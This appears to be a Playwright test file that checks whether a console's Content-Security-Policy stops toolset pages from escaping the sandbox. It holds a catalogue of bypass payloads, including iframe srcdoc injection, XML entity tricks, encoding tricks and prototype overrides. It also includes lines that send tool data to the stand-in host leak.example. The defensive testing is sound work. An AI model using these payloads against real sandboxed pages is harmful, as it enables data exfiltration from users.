"""Pages of toolsets in a browser: ways that a policy leaves open."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Final

import pytest
from playwright.sync_api import Browser, Page, Route

from sshwarma.toolsets.page_data import insert_data
from sshwarma.web.console.embedded import ARTIFACT_POLICY

HOST: Final = "http://page.example/"

PROBE: Final = (
    "try { new RTCPeerConnection(); parent.postMessage('reached', '*') } catch { }"
    " parent.postMessage('nested', '*')"
)
INNER: Final = f"<script>{PROBE}</script>"
FRAME: Final = f'<iframe srcdoc="{INNER}"></iframe>'
XML: Final = (
    '<x><h:iframe xmlns:h="http://www.w3.org/1999/xhtml" srcdoc="'
    + INNER.replace("<", "&lt;")
    + '"/></x>'
)
ENTITY: Final = XML.replace("<h:iframe", "&f;").replace("<x>", "", 1)

MAKE: Final = "const f = document.createElement('iframe');"
ADD: Final = "document.body.append(f);"
TAKE: Final = "document.body.append(document.adoptNode(d.documentElement.firstChild));"

WAYS: Final = {
    "own window": "new RTCPeerConnection(); reach()",
    "property": f"{MAKE} f.srcdoc = INNER; {ADD}",
    "attribute": f"{MAKE} f.setAttribute('srcdoc', INNER); {ADD}",
    "attribute of another": (
        "const p = document.createElement('p'); p.setAttribute('srcdoc', INNER);"
        f" const a = p.attributes[0]; p.removeAttributeNode(a); {MAKE} f.setAttributeNode(a); {ADD}"
    ),
    "value of an attribute": (
        f"{MAKE} f.setAttribute('srcdoc', ''); f.attributes[0].nodeValue = INNER; {ADD}"
    ),
    "other document": (
        "const d = document.implementation.createHTMLDocument(); d.body.innerHTML = FRAME;"
        " document.body.append(d.body.firstChild)"
    ),
    "markup": "document.body.innerHTML = FRAME",
    "upper case": "document.body.insertAdjacentHTML('beforeend', FRAME.replace('iframe ', 'IFRAME/'))",  # noqa: E501 - a line of script
    "template": (
        "const t = document.createElement('template'); t.innerHTML = FRAME;"
        " document.body.append(t.content.cloneNode(true))"
    ),
    "range": "document.body.append(document.createRange().createContextualFragment(FRAME))",
    "unsafe": "document.body.setHTMLUnsafe(FRAME)",
    "written in pieces": "document.write('<ifr'); document.write(FRAME.slice(4))",
    "parsed": (
        "const d = new DOMParser().parseFromString(FRAME, 'text/html');"
        " document.body.append(d.body.firstChild)"
    ),
    "prefix of XML": f"const d = new DOMParser().parseFromString(XML, 'text/xml'); {TAKE}",
    "entity of XML": (
        "const d = new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY f \"&#60;h:iframe'"
        ' + XML.slice(XML.indexOf(" xmlns"), XML.lastIndexOf("</x>")).replaceAll("\\"", "\'")'
        ' + "\\">]><x>&f;</x>", "text/xml");'
        f" {TAKE}"
    ),
    "other methods": (
        "RegExp.prototype.test = () => false; RegExp.prototype.exec = () => null;"
        " String.prototype.replace = String.prototype.toLowerCase = String; "
        " String.prototype.indexOf = () => -1; document.body.innerHTML = FRAME;"
        f" {MAKE} f.srcdoc = INNER; {ADD}"
    ),
    "address of a script": f"{MAKE} f.src = 'javascript:' + PROBE; {ADD}",
    "blob": (
        f"{MAKE} f.src = URL.createObjectURL(new Blob([INNER], {{ type: 'text/html' }})); {ADD}"
    ),
    "empty frame": f"{MAKE} {ADD} new f.contentWindow.RTCPeerConnection(); reach()",
    "element of a name space": (
        "const f = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:IFRAME');"
        f" {ADD} new f.contentWindow.RTCPeerConnection(); reach()"
    ),
    "element of a class": (
        "customElements.define('a-b', class extends HTMLIFrameElement {}, { extends: 'iframe' });"
        " const f = new (customElements.get('a-b'))();"
        f" {ADD} new f.contentWindow.RTCPeerConnection(); reach()"
    ),
    "link that asks ahead": (
        "document.body.innerHTML = '<link rel=preconnect href=http://leak.example>';"
        " if (document.querySelector('link')) reach(); document.createElement('link'); reach()"
    ),
    "policy": "trustedTypes.createPolicy('default', { createHTML: (x) => x }); reach()",
}


def make_page(work: str, markup: str = "") -> bytes:
    """A page that tries something, and then says whether it reached what it must not."""
    texts = {"INNER": INNER, "FRAME": FRAME, "XML": XML, "PROBE": PROBE}
    declared = "".join(
        f"const {name} = {json.dumps(text).replace('<', chr(92) + 'u003c')};"
        for name, text in texts.items()
    )
    script = (
        f"{declared} window.found = []; const reach = () => found.push('reached');"
        " addEventListener('message', ({ data }) => found.push(data));"
        f" addEventListener('load', () => {{ try {{ {work} }} catch {{ }} }});"
    )
    return insert_data(f"<body>{markup}<script>{script}</script></body>".encode(), 1)


def show(browser: Browser, page_bytes: bytes) -> Page:
    """Open a page as the console sends it."""
    page = browser.new_page()

    def send(route: Route) -> None:
        headers = {"Content-Type": "text/html; charset=utf-8"}
        headers["Content-Security-Policy"] = ARTIFACT_POLICY
        route.fulfill(body=page_bytes, headers=headers)

    page.route("**/*", send)
    page.goto(HOST)
    return page


SETTLED: Final = "() => new Promise((resolve) => setTimeout(() => resolve(window.found), 300))"
"""What was found, once frames had time to load."""


@pytest.mark.parametrize("way", WAYS)
def test_no_window_of_a_page_can_send_anything(browser: Browser, way: str) -> None:
    page = show(browser, make_page(WAYS[way]))
    assert "reached" not in page.evaluate(SETTLED)
    page.close()


def test_frame_in_the_text_of_a_page_is_shown_as_text(browser: Browser) -> None:
    page = show(browser, make_page("", FRAME.replace("<script>", "&lt;script>")))
    assert page.evaluate(SETTLED) == []
    assert page.locator("body").inner_text().startswith("<iframe")
    page.close()


def test_pages_may_make_markup_and_scripts(browser: Browser) -> None:
    work = (
        "document.body.insertAdjacentHTML('beforeend', '<b id=b onclick=\"found.push(1)\">x</b>');"
        " b.click(); const s = document.createElement('script'); s.textContent = 'found.push(2)';"
        " document.body.append(s); document.writeln('3'); location.hash = 'there';"
        " b.setAttribute('onclick', 'found.push(4)'); b.click();"
        " found.push(document.body.innerText.includes('3') && location.hash)"
    )
    page = show(browser, make_page(work))
    assert page.evaluate(SETTLED) == [1, 2, 4, "#there"]
    page.close()


@pytest.mark.parametrize("modifier", ["Control", "Shift", "Alt", "middle"])
def test_click_that_opens_a_link_elsewhere_does_nothing(browser: Browser, modifier: str) -> None:
    work = (
        "const h = document.createElement('p'); h.attachShadow({ mode: 'closed' }).innerHTML ="
        " '<a href=http://leak.example/>there</a>'; document.body.append(h);"
        " MouseEvent.prototype.preventDefault = Event.prototype.preventDefault = () => {}"
    )
    page = show(browser, make_page(work))
    asked = list[str]()
    page.context.on("request", lambda request: asked.append(request.url))
    box = page.locator("p").bounding_box()
    assert box is not None
    x, y = box["x"] + 10, box["y"] + 8
    if modifier == "middle":
        page.mouse.click(x, y, button="middle")
    else:
        page.keyboard.down(modifier)
        page.mouse.click(x, y)
        page.keyboard.up(modifier)
    assert page.evaluate(SETTLED) == []
    assert (asked, len(page.context.pages)) == ([], 1)
    page.close()


def test_file_of_another_encoding_hides_no_frame(browser: Browser, tmp_path: Path) -> None:
    hidden = f'<ifr\x1b(Bame srcdoc="{INNER}"></iframe>'
    made = insert_data(
        f'<head><meta charset="iso-2022-jp"></head><body>{hidden}</body>'.encode(), 1
    )
    (tmp_path / "page.html").write_bytes(made)
    page = browser.new_page()
    page.goto((tmp_path / "page.html").as_uri())
    page.wait_for_load_state()
    assert len(page.frames) == 1
    page.close()


@pytest.mark.parametrize(
    "work",
    [
        "location.href = 'http://leak.example/?' + __TOOL_DATA__",
        "open('http://leak.example/?' + __TOOL_DATA__)",
        "navigation.onnavigate = (e) => e.stopImmediatePropagation(); location.assign('//leak.example')",  # noqa: E501 - a line of script
        "Event.prototype.preventDefault = () => {}; location.replace('http://leak.example/')",
        "const a = document.createElement('a'); a.href = 'http://leak.example/'; document.body.append(a); a.click()",  # noqa: E501 - a line of script
        "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=http://leak.example/'; document.head.append(m)",  # noqa: E501 - a line of script
    ],
)
def test_file_does_not_leave_for_another_page(browser: Browser, tmp_path: Path, work: str) -> None:
    (tmp_path / "page.html").write_bytes(make_page(work))
    page, asked = browser.new_page(), list[str]()
    page.on("request", lambda request: asked.append(request.url))
    page.goto((tmp_path / "page.html").as_uri())
    assert page.evaluate(SETTLED) == []
    assert all(url.startswith("file:") for url in asked)
    page.close()
